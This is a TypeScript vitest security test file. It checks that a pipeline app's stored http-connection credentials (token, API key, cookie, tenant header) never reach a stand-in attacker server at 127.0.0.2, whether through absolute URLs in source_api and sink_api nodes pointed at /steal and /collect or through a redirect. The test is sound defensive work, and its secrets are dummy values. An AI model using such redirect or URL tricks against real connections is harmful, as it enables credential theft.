/**
 * Attack: an editor points a `source_api` that uses a stored http connection (`conn_id`) at a server of their own,
 * to collect the connection's token. The attacker's server is 127.0.0.2 — loopback, but another origin than the
 * connection's 127.0.0.1. It must receive nothing (absolute URL) or nothing the connection supplied (redirect).
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startPeer, type PeerServer } from "../../../core/test/engine/peer-server.js";
import { startTestServer, type TestServer } from "../../../../test-support/http.js";
import { runPipeline } from "./attack-support.js";

const TOKEN = "conn-token-7c1e9a55";
const API_KEY = "conn-apikey-41d0b2e8";
const COOKIE = "session=conn-cookie-9f3a61";
const TENANT = "conn-tenant-secret-22";

let t: TestServer;
let api: PeerServer;
let evil: PeerServer;
beforeAll(async () => {
  t = await startTestServer("sqlite");
  evil = await startPeer(() => ({ json: [{ stolen: true }] }), "127.0.0.2");
  api = await startPeer((req) =>
    req.url.startsWith("/bounce")
      ? { status: 302, headers: { location: `${evil.url}/steal` }, text: "" }
      : { json: [{ id: 1 }] },
  );
  const extra = JSON.stringify({ token: TOKEN, headers: { "X-Api-Key": API_KEY, Cookie: COOKIE, "X-Tenant": TENANT } });
  const created = await t.fetch("/connections", {
    method: "POST",
    json: { conn_id: "crm", type: "http", host: api.url, extra },
  });
  expect(created.status).toBe(201);
});
afterAll(async () => {
  await api?.close();
  await evil?.close();
  await t?.close();
});
afterEach(() => {
  evil.received.length = 0;
  api.received.length = 0;
});

const secrets = [TOKEN, API_KEY, COOKIE, TENANT];

describe("http connection credentials stay with their origin", () => {
  it.each([
    ["path", { conn_id: "crm", path: "" }],
    ["url", { conn_id: "crm", url: "" }],
  ])(
    "conn_id + an absolute %s to another origin is a node error, and the other origin receives nothing",
    async (key, config) => {
      const node = { id: "grab", type: "source_api", config: { ...config, [key]: `${evil.url}/steal` } };
      const { run } = await runPipeline(t, { name: `steal-by-${key}`, nodes: [node], edges: [] });
      expect(run.status).toBe("failed");
      expect(run.node_runs[0]!.error).toMatch(
        /only to http:\/\/127\.0\.0\.1:\d+; http:\/\/127\.0\.0\.2:\d+ is another origin/,
      );
      expect(evil.received).toHaveLength(0);
      expect(api.received).toHaveLength(0);
    },
  );

  it("a sink_api with conn_id and an absolute path elsewhere is refused the same way", async () => {
    const nodes = [
      { id: "rows", type: "source_api", config: { conn_id: "crm", path: "/rows" } },
      { id: "push", type: "sink_api", config: { conn_id: "crm", path: `${evil.url}/collect` } },
    ];
    const { run } = await runPipeline(t, { name: "sink-steal", nodes, edges: [{ from: "rows", to: "push" }] });
    expect(run.node_runs.find((n) => n.node_id === "push")).toMatchObject({ status: "failed" });
    expect(evil.received).toHaveLength(0);
  });

  it("a redirect from the connection's origin to another origin carries none of the connection's headers", async () => {
    const node = { id: "bounced", type: "source_api", config: { conn_id: "crm", path: "/bounce" } };
    const { run } = await runPipeline(t, { name: "bounce", nodes: [node], edges: [] });
    // the same origin got them (proves they were set), the other origin none: not the token, api key, cookie or tenant
    expect(api.received[0]!.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(api.received[0]!.headers["x-api-key"]).toBe(API_KEY);
    expect(evil.received).toHaveLength(1);
    const sent = evil.received[0]!;
    for (const name of ["authorization", "cookie", "x-api-key", "x-tenant"]) expect(sent.headers[name]).toBeUndefined();
    const everything = JSON.stringify(sent);
    for (const secret of secrets) expect(everything).not.toContain(secret);
    expect(run.status).toBe("success");
  });
});
